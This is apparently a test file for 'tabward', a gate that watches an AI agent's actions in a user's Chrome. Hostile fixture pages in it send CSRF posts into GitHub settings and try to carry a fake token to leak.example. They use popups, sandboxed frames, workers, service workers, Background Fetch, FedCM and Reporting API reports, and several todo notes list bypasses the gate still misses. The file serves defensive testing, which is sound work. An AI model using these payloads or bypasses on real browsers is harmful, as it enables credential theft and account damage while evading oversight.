// Attacks on the user's Chrome (shared mode), after the browser-wide Fetch gate (browser/browserFetchGate.ts): an
// obedient agent and hostile pages, a human who approves what tabward predicted and refuses everything it did not.
// Each test asserts on what the fixture server received: a request that arrived where it may not makes it fail.
// Harm (a): a state-changing request (or a top-level navigation) into a sensitive page with no human's yes.
// Harm (b): after a sensitive read, data reaching a host outside the session's allowed set with nobody approving.

import assert from 'node:assert/strict';
import type { ServerResponse } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
import { type Fixture, html, type Seen, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
import { refOf } from '../helpers/mcpClient.ts';
import { waitFor } from '../helpers/waitFor.ts';

const token = 'ghp_attackUserChrome31337';

describe("attacks on the user's Chrome behind the browser-wide gate", () => {
  let site: Fixture;
  let chrome: UserChrome;
  let tabward: InProcessBrowser | undefined;
  let mcp: InProcessMcp | undefined;
  const url = (host: string, path: string) => site.url(host, path);
  const arrived = (path: string) => site.seen.filter((request) => request.path.startsWith(path));
  const shown = (requests: readonly Seen[]) =>
    requests
      .map(
        (r) =>
          `${r.method} ${r.host}${r.path} ${r.body.slice(0, 120)}${r.cookie ? ` [cookie: ${r.cookie}]` : ''}`,
      )
      .join('\n');
  const quietly = (ms: number) => new Promise((done) => setTimeout(done, ms));
  const js = (res: ServerResponse, body: string): void => {
    res.writeHead(200, { 'content-type': 'text/javascript' }).end(body);
  };
  const json = (res: ServerResponse, body: string): void => {
    res.writeHead(200, { 'content-type': 'application/json' }).end(body);
  };
  /** A cross-origin endpoint that answers any CORS preflight (the attacker's own server). */
  const permissive = (res: ServerResponse): void => {
    res
      .writeHead(204, {
        'access-control-allow-origin': '*',
        'access-control-allow-methods': 'POST, GET, PUT, DELETE',
        'access-control-allow-headers': '*',
      })
      .end();
  };
  /**
   * In page script: a no-cors POST into GitHub's settings, marked by where it came from (an absolute address: a
   * srcdoc or opaque-origin worker has no port of its own to build it from).
   */
  const postInto = (from: string) =>
    `fetch('https://github.com:${site.port}/settings/delete?from=${from}', { method: 'POST', mode: 'no-cors', body: 'x' }).catch(() => {})`;
  /** In page script: a GET that tells the test the script ran (a host no rule marks and no taint covers). */
  const ranMark = (from: string) =>
    `fetch('https://ads.example:${site.port}/ran?${from}', { mode: 'no-cors' }).catch(() => {})`;
  /** A page with a Note field: what the agent types there is handed to `send(value)`. */
  const notePage = (title: string, send: string) =>
    `<title>${title}</title><body><label>Note <input id=note></label><script>const L = (p) => 'https://leak.example:' + location.port + p;
    const send = ${send};
    document.getElementById('note').addEventListener('input', (e) => { if (e.target.value.length > 10) send(e.target.value) });</script>`;

  before(async () => {
    site = await startFixture(
      {
        '/settings/tokens': (_req, _body, res) => html(res, `<title>Tokens</title><p>${token}</p>`),
        '/settings/delete': (_req, _body, res) => html(res, '<title>deleted</title>'),
        '/settings/admin': (_req, _body, res) => html(res, '<title>admin</title>'),
        // The user is logged in to GitHub in their Chrome.
        '/mine': (_req, _body, res) =>
          html(res, '<title>Mine</title><p>the user’s page</p>', 200, {
            'set-cookie': [
              'user_session=lax-session; Secure; SameSite=Lax; Path=/',
              'gh_none=none-session; Secure; SameSite=None; Path=/',
            ] as unknown as string,
          }),
        // --- popups ---
        // The same link, with a cross-site frame that floods tabward's CDP connection with console messages as the
        // link is clicked: the popup's watch is set up behind them.
        '/opens-link-flood': (_req, _body, res) =>
          html(
            res,
            `<title>Docs</title><body><a href="/burst" target="_blank" onclick="frames[0].postMessage('go', '*')">Open help</a><iframe src="${url('ads.example', '/flood')}"></iframe>`,
          ),
        '/flood': (_req, _body, res) =>
          html(
            res,
            `<title>flood</title><script>onmessage = () => { const big = 'x'.repeat(2000); const end = Date.now() + 1500; const tick = () => { for (let i = 0; i < 300; i++) console.log(big, i); if (Date.now() < end) setTimeout(tick, 0) }; tick() }</script>`,
          ),
        '/burst': (_req, _body, res) =>
          html(
            res,
            `<title>burst</title><script>${postInto('popup-burst-first')}; let n = 0; const t = setInterval(() => { ${postInto("popup-burst' + n++ + '")}; if (n > 200) clearInterval(t) }, 5)</script>`,
          ),
        // The agent's tab closes itself as the popup opens: the popup's opener is gone when tabward asks for it.
        '/opens-and-closes': (_req, _body, res) =>
          html(res, '<title>Docs</title><body><a href="/middle" target="_blank">Open help</a>'),
        // A popup (one history entry: script-closable) whose link opens another and closes itself.
        '/middle': (_req, _body, res) =>
          html(
            res,
            '<title>Middle</title><body><a href="/lingering?from=closes" target="_blank" onclick="setTimeout(() => window.close(), 0)">Continue</a>',
          ),
        '/lingering': (req, _body, res) => {
          const from = new URL(req.url ?? '', 'http://x').searchParams.get('from') ?? 'x';
          html(
            res,
            `<title>Help</title><p>help</p><script>setTimeout(() => { ${postInto(`lingering-${from}`)}; fetch('/lingering-ran?${from}') }, 1500); setTimeout(() => { const f = document.createElement('form'); f.method = 'POST'; f.action = 'https://github.com:' + location.port + '/settings/delete?from=lingering-${from}-form'; document.body.append(f); f.submit() }, 2500)</script>`,
          );
        },
        // A page that is told a note over a BroadcastChannel sends it home (an ordinary fetch, which any hook of
        // tabward's would judge).
        '/sends-home': (_req, _body, res) =>
          html(
            res,
            `<title>Help</title><p>help</p><script>new BroadcastChannel('notes').onmessage = (e) => fetch('https://leak.example:' + location.port + '/home?d=' + encodeURIComponent(e.data), { mode: 'no-cors' })</script>`,
          ),
        // The agent's own tab: what is typed into its Note goes over a BroadcastChannel, never onto the network.
        '/broadcasts': (_req, _body, res) =>
          html(res, notePage('Notes', `(v) => new BroadcastChannel('notes').postMessage(v)`)),
        // The link is in a cross-site frame of the agent's page: the popup's opener is that frame's process.
        '/frame-link': (_req, _body, res) =>
          html(
            res,
            `<title>Docs</title><p>docs</p><iframe src="${url('ads.example', '/ad-link')}"></iframe>`,
          ),
        '/ad-link': (_req, _body, res) =>
          html(
            res,
            '<title>ad</title><body><a href="/lingering?from=frame" target="_blank">Sponsored help</a>',
          ),
        '/opens-home': (_req, _body, res) =>
          html(res, '<title>Docs</title><body><a href="/middle-home" target="_blank">Open help</a>'),
        '/middle-home': (_req, _body, res) =>
          html(
            res,
            '<title>Middle</title><body><a href="/sends-home" target="_blank" onclick="setTimeout(() => window.close(), 0)">Continue</a>',
          ),
        '/opens-nav-flood': (_req, _body, res) =>
          html(
            res,
            `<title>Docs</title><body><a href="/hop" target="_blank" onclick="frames[0].postMessage('go', '*')">Open help</a><iframe src="${url('ads.example', '/flood')}"></iframe>`,
          ),
        '/hop': (_req, _body, res) =>
          html(
            res,
            `<title>hop</title><script>location.replace('https://github.com:' + location.port + '/settings/admin?from=popup-nav')</script>`,
          ),
        // --- background fetch ---
        '/sw.js': (_req, _body, res) =>
          js(
            res,
            "self.addEventListener('fetch', () => {}); for (const name of ['backgroundfetchsuccess', 'backgroundfetchfail', 'backgroundfetchabort']) self.addEventListener(name, (e) => fetch('/bgfetch-done?' + name + '=' + e.registration.failureReason).catch(() => {}));",
          ),
        '/bgfetch-post': (_req, _body, res) =>
          html(
            res,
            `<title>bgfetch</title><script>navigator.serviceWorker.register('/sw.js').then(async () => { const reg = await navigator.serviceWorker.ready;
              const request = new Request('https://github.com:' + location.port + '/settings/delete?from=bgfetch', { method: 'POST', body: 'delete' });
              try { await reg.backgroundFetch.fetch('bg-' + Math.random(), [request]); fetch('/err?bgfetch-post=started') } catch (e) { fetch('/err?bgfetch-post=' + encodeURIComponent(e)) }
              })</script>`,
          ),
        '/bgfetch-leak': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => navigator.serviceWorker.register('/sw.js').then(async () => { const reg = await navigator.serviceWorker.ready;
                await reg.backgroundFetch.fetch('leak-' + Math.random(), [L('/bgfetch?d=' + encodeURIComponent(v))]) }).catch((e) => fetch('/err?bgfetch=' + encodeURIComponent(e)))`,
            ),
          ),
        // A service worker given what the agent typed keeps trying to send it home, as long as it lives.
        '/keeper': (_req, _body, res) =>
          html(
            res,
            `${notePage('Notes', `(v) => navigator.serviceWorker.ready.then((reg) => reg.active.postMessage(v))`)}<script>navigator.serviceWorker.register('/keeper-sw.js').then(() => navigator.serviceWorker.ready).then(() => fetch('/keeper-ready'))</script>`,
          ),
        '/keeper-sw.js': (_req, _body, res) =>
          js(
            res,
            `self.addEventListener('install', () => self.skipWaiting());
             self.addEventListener('message', (e) => e.waitUntil((async () => { const end = Date.now() + 60000;
               while (Date.now() < end) { await fetch('https://leak.example:' + location.port + '/swhome?d=' + encodeURIComponent(e.data), { mode: 'no-cors' }).catch(() => {}); await new Promise((r) => setTimeout(r, 200)) } })()));`,
          ),
        // A page whose pagehide keepalive POST goes to its own server, which answers slowly with a 307 into GitHub.
        '/slow-hop-page': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><script>addEventListener('pagehide', () => fetch('/slow-hop' + location.search, { method: 'POST', keepalive: true, body: 'x' }).catch(() => {}))</script>`,
          ),
        '/slow-hop-repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><div id="ads"><iframe src="${url('ads.example', '/slow-hop-page?frame')}"></iframe></div>
            <button onclick="document.getElementById('ads').remove()">Hide ads</button>`,
          ),
        '/slow-hop': (req, _body, res) => {
          const from = new URL(req.url ?? '', 'http://x').search.slice(1);
          setTimeout(
            () =>
              res
                .writeHead(307, {
                  location: site.url('github.com', `/settings/delete?from=slow-hop${from ? `-${from}` : ''}`),
                })
                .end(),
            2_500,
          );
        },
        // --- FedCM ---
        '/fedcm-leak': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => navigator.credentials.get({ identity: { providers: [{ configURL: L('/fedcm.json?d=' + encodeURIComponent(v)), clientId: 'x' }] } }).catch(() => {})`,
            ),
          ),
        '/fedcm.json': (_req, _body, res) => json(res, '{}'),
        // --- Reporting API ---
        '/report-leak': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => { const img = new Image(); img.src = 'https://blocked.example:' + location.port + '/pixel?d=' + encodeURIComponent(v); document.body.append(img) }`,
            ),
            200,
            {
              'content-security-policy': "img-src 'self'; report-to default",
              'reporting-endpoints': `default="${site.url('leak.example', '/report-to')}"`,
            },
          ),
        'OPTIONS /report-to': (_req, _body, res) => permissive(res),
        '/report-uri-leak': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => { const img = new Image(); img.src = 'https://blocked.example:' + location.port + '/pixel?d=' + encodeURIComponent(v); document.body.append(img) }`,
            ),
            200,
            {
              'content-security-policy': `img-src 'self'; report-uri ${site.url('leak.example', '/report-uri')}`,
            },
          ),
        'OPTIONS /report-uri': (_req, _body, res) => permissive(res),
        // --- nested sandboxed frames ---
        '/nest-repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><iframe src="${url('ads.example', '/nest-outer')}"></iframe>`,
          ),
        // The same, the page flooding tabward's connection with console messages as it inserts the frame.
        '/nest-repo-flood': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><body><script>const f = document.createElement('iframe'); f.src = ${JSON.stringify(url('ads.example', '/nest-outer'))}; document.body.append(f);
              const big = 'x'.repeat(2000); const end = Date.now() + 1500; const tick = () => { for (let i = 0; i < 300; i++) console.log(big, i); if (Date.now() < end) setTimeout(tick, 0) }; tick()</script>`,
          ),
        '/nest-outer': (_req, _body, res) =>
          html(
            res,
            `<title>outer</title><body><script>const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
              f.srcdoc = "<script>let n = 0; const t = setInterval(() => { ${postInto("sandboxed-grandchild' + n++ + '").replaceAll('"', '&quot;')}; if (n > 300) clearInterval(t) }, 5); ${ranMark('grandchild')}<\\/script>";
              document.body.append(f)</script>`,
          ),
        // A sandboxed srcdoc frame (a process of its own in the user's Chrome) holding a cross-site frame, holding a
        // sandboxed srcdoc frame again, whose script posts into GitHub's settings from its first moment.
        '/deep-repo': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><iframe sandbox="allow-scripts" srcdoc="<iframe src='${url('tracker.example', '/deep-middle')}'></iframe>"></iframe>`,
          ),
        '/deep-middle': (_req, _body, res) =>
          html(
            res,
            `<title>middle</title><body><script>const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
              f.srcdoc = "<script>let n = 0; const t = setInterval(() => { ${postInto("deep' + n++ + '")}; if (n > 300) clearInterval(t) }, 5); ${ranMark('deep')}<\\/script>";
              document.body.append(f); new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`${postInto('deep-worker')}; ${ranMark('deep-worker')}`)}], { type: 'text/javascript' })))</script>`,
          ),
        // A sandboxed srcdoc frame (a process of its own) whose dedicated workers post into GitHub's settings.
        '/sandbox-worker': (_req, _body, res) =>
          html(
            res,
            `<title>Repo</title><p>readme</p><body><script>const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
              const work = ${JSON.stringify(`setTimeout(() => ${postInto('sandbox-worker-late')}, 1000); ${postInto('sandbox-worker')}; ${ranMark('sandbox-worker')}`)};
              f.srcdoc = '<script>new Worker(URL.createObjectURL(new Blob([' + JSON.stringify(work) + '], { type: "text/javascript" }))); new Worker("data:text/javascript," + encodeURIComponent(' + JSON.stringify(work.replaceAll('sandbox-worker', 'sandbox-data-worker')) + '))<\\/script>';
              document.body.append(f)</script>`,
          ),
        // --- initiators a hook should see, after a read ---
        '/initiators': (_req, _body, res) =>
          html(
            res,
            notePage(
              'Notes',
              `(v) => { const d = encodeURIComponent(v);
                const add = (tag, attrs) => { const e = document.createElement(tag); Object.assign(e, attrs); document.head.append(e); return e };
                add('link', { rel: 'prefetch', href: L('/i/prefetch?d=' + d) });
                add('link', { rel: 'icon', href: L('/i/icon?d=' + d) });
                add('link', { rel: 'manifest', href: L('/i/manifest?d=' + d) });
                add('link', { rel: 'preload', as: 'image', href: L('/i/preload?d=' + d) });
                try { new EventSource(L('/i/es?d=' + d)) } catch {}
                const st = document.createElement('style'); st.textContent = '@font-face { font-family: X; src: url(' + L('/i/font?d=' + d) + ') } body { font-family: X; background: url(' + L('/i/bg?d=' + d) + ') }'; document.head.append(st);
                navigator.sendBeacon(L('/i/beacon?d=' + d), d);
                new Worker(URL.createObjectURL(new Blob(["fetch('" + L('/i/worker?d=' + d) + "', { keepalive: true, mode: 'no-cors' })"], { type: 'text/javascript' })));
                const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = '<img src="' + L('/i/sandboxed?d=' + d) + '">'; document.body.append(f);
                const a = document.createElement('a'); a.href = '#'; a.ping = L('/i/ping?d=' + d); a.textContent = 'x'; document.body.append(a); a.click();
              }`,
            ),
          ),
      },
      { tls: true },
    );
    chrome = await startUserChrome({ chromeArgs: testChromeArgs, openTab: url('github.com', '/mine') });
  });
  after(async () => {
    await mcp?.close();
    await tabward?.close();
    await chrome?.close();
    await site?.close();
  });

  async function agent(): Promise<InProcessMcp> {
    await mcp?.close();
    tabward ??= await startInProcess({ mode: 'shared', wsEndpoint: chrome.wsEndpoint });
    const fresh = await tabward.connect();
    // The human approves what tabward predicted and asked about (a click, a fill into a page it names as allowed
    // from then on), and refuses every request tabward did not predict.
    fresh.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
    mcp = fresh;
    return fresh;
  }

  /** The agent reads GitHub's token page (the session is tainted from here on). */
  async function readTokens(agentMcp: InProcessMcp): Promise<void> {
    const opened = await agentMcp.call('new_page', { url: url('github.com', '/settings/tokens') });
    assert.equal(opened.isError, false, opened.text);
    assert.match((await agentMcp.call('take_snapshot')).text, new RegExp(token));
  }

  /** A page of the agent's opened before the read; after it the agent types the token into its Note field. */
  async function typeTokenInto(agentMcp: InProcessMcp, path: string, host = 'evil.example'): Promise<string> {
    const opened = await agentMcp.call('new_page', { url: url(host, path) });
    assert.equal(opened.isError, false, opened.text);
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    await readTokens(agentMcp);
    await agentMcp.call('select_page', { pageId: tab });
    const snapshot = await agentMcp.call('take_snapshot');
    const typed = await agentMcp.call('fill', { ref: refOf(snapshot.text, 'Note'), value: token });
    return typed.text;
  }

  test('a popup opened by a link click posts into a sensitive page before tabward watches it', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil.example', '/opens-link-flood') });
    const snapshot = await agentMcp.call('take_snapshot');
    const clicked = await agentMcp.call('click', { ref: refOf(snapshot.text, 'Open help') });
    assert.equal(clicked.isError, false, clicked.text);
    await quietly(2_000);
    const posts = site.seen.filter((r) => r.path.startsWith('/settings/delete?from=popup-burst'));
    assert.deepEqual(posts.length, 0, `${posts.length} POSTs arrived:\n${shown(posts.slice(0, 5))}`);
  });

  test('an agent tab that closes itself as its link opens a popup leaves that popup unwatched', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil.example', '/opens-and-closes') });
    const snapshot = await agentMcp.call('take_snapshot');
    const clicked = await agentMcp.call('click', { ref: refOf(snapshot.text, 'Open help') });
    assert.equal(clicked.isError, false, clicked.text);
    const middle = /(p\d+) \[agent\] \S+\/middle/.exec((await agentMcp.call('list_pages')).text)?.[1] ?? '';
    await agentMcp.call('select_page', { pageId: middle });
    const inMiddle = await agentMcp.call('take_snapshot');
    const continued = await agentMcp.call('click', { ref: refOf(inMiddle.text, 'Continue') });
    assert.match(continued.text, /closed|Clicked/, continued.text);
    await waitFor('the popup runs', () => arrived('/lingering-ran?closes').length > 0, {
      timeoutMs: 10_000,
    }).catch(() => undefined);
    await quietly(1_500);
    const pages = (await agentMcp.call('list_pages')).text;
    assert.deepEqual(shown([...arrived('/settings/delete?from=lingering-closes')]), '', pages);
  });

  test('after a sensitive read, a popup whose opener closed itself sends what the agent typed in its own tab', async () => {
    const agentMcp = await agent();
    const notes = await agentMcp.call('new_page', { url: url('evil.example', '/broadcasts') });
    const notesTab = /Tab (p\d+)/.exec(notes.text)?.[1] ?? '';
    await agentMcp.call('new_page', { url: url('evil.example', '/opens-home') });
    await agentMcp.call('click', { ref: refOf((await agentMcp.call('take_snapshot')).text, 'Open help') });
    const middle =
      /(p\d+) \[agent\] \S+\/middle-home/.exec((await agentMcp.call('list_pages')).text)?.[1] ?? '';
    await agentMcp.call('select_page', { pageId: middle });
    await agentMcp.call('click', { ref: refOf((await agentMcp.call('take_snapshot')).text, 'Continue') });
    await quietly(500);
    const pages = (await agentMcp.call('list_pages')).text;
    assert.match(pages, /\[agent\] \S+\/sends-home/, 'the popup is the agent’s, its opener gone or not');
    await readTokens(agentMcp);
    await agentMcp.call('select_page', { pageId: notesTab });
    const typed = await agentMcp.call('fill', {
      ref: refOf((await agentMcp.call('take_snapshot')).text, 'Note'),
      value: token,
    });
    assert.equal(typed.isError, false, typed.text);
    await quietly(1_500);
    assert.deepEqual(shown(arrived('/home?d=').filter((r) => r.path.includes(token))), '');
  });

  test('a popup opened from a cross-site frame of the agent’s tab is the agent’s and is watched', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil.example', '/frame-link') });
    const snapshot = await agentMcp.call('take_snapshot');
    const clicked = await agentMcp.call('click', { ref: refOf(snapshot.text, 'Sponsored help') });
    assert.equal(clicked.isError, false, clicked.text);
    await waitFor('the popup runs', () => arrived('/lingering-ran?frame').length > 0, { timeoutMs: 10_000 });
    await quietly(1_500);
    assert.deepEqual(shown([...arrived('/settings/delete?from=lingering-frame')]), '');
  });

  test('a popup opened by a link click navigates itself into a sensitive page', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('evil.example', '/opens-nav-flood') });
    const tab = /Tab (p\d+)/.exec(opened.text)?.[1] ?? '';
    // A race: tabward wins it some of the time, so the agent tries up to three times.
    for (let attempt = 0; attempt < 3 && arrived('/settings/admin?from=popup-nav').length === 0; attempt++) {
      await agentMcp.call('select_page', { pageId: tab });
      const snapshot = await agentMcp.call('take_snapshot');
      await agentMcp.call('click', { ref: refOf(snapshot.text, 'Open help') });
      await quietly(2_000);
    }
    assert.deepEqual(shown(arrived('/settings/admin?from=popup-nav')), '');
  });

  test('a Background Fetch of the agent page’s service worker posts into a sensitive page', {
    todo: 'residual: Background Fetch is fetched by the browser process, which no CDP hook sees, and denying its permission over CDP does not stop it (measured)',
  }, async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('bgpost.example', '/bgfetch-post') });
    await waitFor(
      'the background fetch ends',
      () =>
        site.seen.some((r) => r.host.startsWith('bgpost.example') && r.path.startsWith('/bgfetch-done')) ||
        arrived('/settings/delete?from=bgfetch').length > 0,
      { timeoutMs: 15_000 },
    ).catch(() => undefined);
    await quietly(500);
    const ran = shown(
      site.seen.filter((r) => r.host.startsWith('bgpost.example') && /bgfetch|err/.test(r.path)),
    );
    assert.deepEqual(shown(arrived('/settings/delete?from=bgfetch')), '', ran);
  });

  test('after a sensitive read, a Background Fetch carries the token to another host', {
    todo: 'residual: Background Fetch is fetched by the browser process, which no CDP hook sees, and denying its permission over CDP does not stop it (measured)',
  }, async () => {
    const agentMcp = await agent();
    await typeTokenInto(agentMcp, '/bgfetch-leak', 'bgleak.example');
    await quietly(3_000);
    assert.deepEqual(
      shown(site.seen.filter((r) => r.path.startsWith('/bgfetch?') && r.path.includes(token))),
      '',
    );
  });

  test('after a sensitive read, a FedCM config URL carries the token to another host', {
    todo: "residual: FedCM's config fetch is the browser process's own, which no CDP hook sees",
  }, async () => {
    const agentMcp = await agent();
    await typeTokenInto(agentMcp, '/fedcm-leak');
    await quietly(3_000);
    assert.deepEqual(
      shown(site.seen.filter((r) => r.path.startsWith('/fedcm.json') && r.path.includes(token))),
      '',
    );
  });

  test('after a sensitive read, a Reporting API report carries the token to another host', {
    todo: 'flaky under load: the report still left once in a full run on 2 loaded cores (cause not found: the header is taken out at the response stage, and the test passes alone)',
  }, async () => {
    const agentMcp = await agent();
    await typeTokenInto(agentMcp, '/report-leak');
    await quietly(5_000);
    assert.deepEqual(
      shown(site.seen.filter((r) => r.path.startsWith('/report-to') && r.body.includes(token))),
      '',
    );
  });

  test('after a sensitive read, a legacy CSP report-uri report carries nothing to another host', async () => {
    const agentMcp = await agent();
    const typed = await typeTokenInto(agentMcp, '/report-uri-leak');
    // The report is sent by the frame (a hook sees it), unlike the Reporting API's.
    assert.match(typed, /POST \S+\/report-uri: the agent has read sensitive pages/);
    await quietly(3_000);
    assert.deepEqual(
      shown(site.seen.filter((r) => r.path.startsWith('/report-uri') && r.body.includes(token))),
      '',
    );
  });

  test('a keepalive POST of a removed frame that redirects into a sensitive page seconds later is judged', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('github.com', '/slow-hop-repo') });
    const snapshot = await agentMcp.call('take_snapshot');
    await agentMcp.call('click', { ref: refOf(snapshot.text, 'Hide ads') });
    await waitFor('the first hop arrives', () => arrived('/slow-hop?frame').length > 0, { timeoutMs: 5_000 });
    await quietly(3_500);
    assert.deepEqual(shown(arrived('/settings/delete?from=slow-hop-frame')), '');
  });

  test('a sandboxed grandchild of a cross-site frame posts into a sensitive page before its parent is watched', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('github.com', '/nest-repo') });
    await quietly(2_500);
    const posts = site.seen.filter((r) => r.path.startsWith('/settings/delete?from=sandboxed-grandchild'));
    assert.equal(posts.length, 0, `${posts.length} POSTs arrived:\n${shown(posts.slice(0, 5))}`);
  });

  test('a sandboxed grandchild of a cross-site frame posts into a sensitive page while the page floods tabward', async () => {
    const agentMcp = await agent();
    const before = site.seen.filter((r) =>
      r.path.startsWith('/settings/delete?from=sandboxed-grandchild'),
    ).length;
    const ran = arrived('/ran?grandchild').length;
    const posted = () =>
      site.seen.filter((r) => r.path.startsWith('/settings/delete?from=sandboxed-grandchild')).length >
      before;
    // A race: tabward wins it some of the time, so the page is opened up to three times.
    for (let attempt = 0; attempt < 3 && !posted(); attempt++) {
      await agentMcp.call('new_page', { url: url('github.com', '/nest-repo-flood') });
      await quietly(3_000);
    }
    assert.ok(arrived('/ran?grandchild').length > ran, 'the grandchild ran');
    const posts = site.seen
      .filter((r) => r.path.startsWith('/settings/delete?from=sandboxed-grandchild'))
      .slice(before);
    assert.equal(posts.length, 0, `${posts.length} POSTs arrived:\n${shown(posts.slice(0, 5))}`);
  });

  test('frames nested three deep through sandboxed and cross-site frames post nothing into a sensitive page', {
    todo: "residual, under load: an in-process child of an agent's out-of-process frame is known to the browser-wide gate only once tabward's hook attaches to that frame's process (no target event names it)",
  }, async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('github.com', '/deep-repo') });
    await quietly(2_500);
    const posts = site.seen.filter((r) => r.path.startsWith('/settings/delete?from=deep'));
    assert.ok(
      arrived('/ran?deep').length > 0 && arrived('/ran?deep-worker').length > 0,
      'the frame and worker ran',
    );
    const ran = site.seen.filter((r) => r.path.startsWith('/deep-middle')).length;
    assert.ok(ran > 0, 'the middle frame loaded');
    assert.equal(
      posts.length,
      0,
      `${posts.length} POSTs arrived (middle frame loaded ${ran}x):\n${shown(posts.slice(0, 5))}`,
    );
  });

  test('dedicated workers of a sandboxed frame post nothing into a sensitive page', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('github.com', '/sandbox-worker') });
    await quietly(2_500);
    const posts = site.seen.filter((r) => /^\/settings\/delete\?from=sandbox-(data-)?worker/.test(r.path));
    assert.ok(
      arrived('/ran?sandbox-worker').length > 0 && arrived('/ran?sandbox-data-worker').length > 0,
      shown(arrived('/ran')),
    );
    assert.equal(posts.length, 0, shown(posts));
  });

  test('after a sensitive read, prefetch, icon, manifest, preload, EventSource, font, beacon, worker, sandboxed frame and ping carry nothing', async () => {
    const agentMcp = await agent();
    const typed = await typeTokenInto(agentMcp, '/initiators');
    assert.match(typed, /\/i\/(prefetch|beacon|ping|font)\?d=/);
    await quietly(2_500);
    assert.deepEqual(shown(site.seen.filter((r) => r.path.startsWith('/i/') && r.path.includes(token))), '');
  });

  test('a keepalive POST that redirects into a sensitive page after tabward detached goes unjudged', async () => {
    const agentMcp = await agent();
    const opened = await agentMcp.call('new_page', { url: url('evil.example', '/slow-hop-page') });
    assert.equal(opened.isError, false, opened.text);
    const detached = await agentMcp.call('browser_disconnect');
    assert.equal(detached.isError, false, detached.text);
    await waitFor('the first hop arrives', () => arrived('/slow-hop').length > 0, { timeoutMs: 5_000 });
    await tabward?.close();
    tabward = undefined;
    await agentMcp.close();
    mcp = undefined;
    await quietly(3_500);
    assert.deepEqual(shown(arrived('/settings/delete?from=slow-hop')), '');
  });

  // Last: it leaves tabward detached (the next test, if any, starts a new one).
  test('after a sensitive read, a service worker of the agent’s page sends what it was given once tabward detaches', async () => {
    const agentMcp = await agent();
    await agentMcp.call('new_page', { url: url('evil.example', '/keeper') });
    await waitFor('the worker runs', () => arrived('/keeper-ready').length > 0, { timeoutMs: 10_000 });
    await typeTokenInto(agentMcp, '/keeper');
    await quietly(1_000);
    const whileAttached = arrived('/swhome?d=').filter((r) => r.path.includes(token)).length;
    const detached = await agentMcp.call('browser_disconnect');
    assert.equal(detached.isError, false, detached.text);
    await tabward?.close();
    tabward = undefined;
    await agentMcp.close();
    mcp = undefined;
    await quietly(2_000);
    const sent = arrived('/swhome?d=').filter((r) => r.path.includes(token));
    assert.equal(
      sent.length,
      0,
      `${whileAttached} while attached, ${sent.length} in all:\n${shown(sent.slice(0, 3))}`,
    );
  });
});
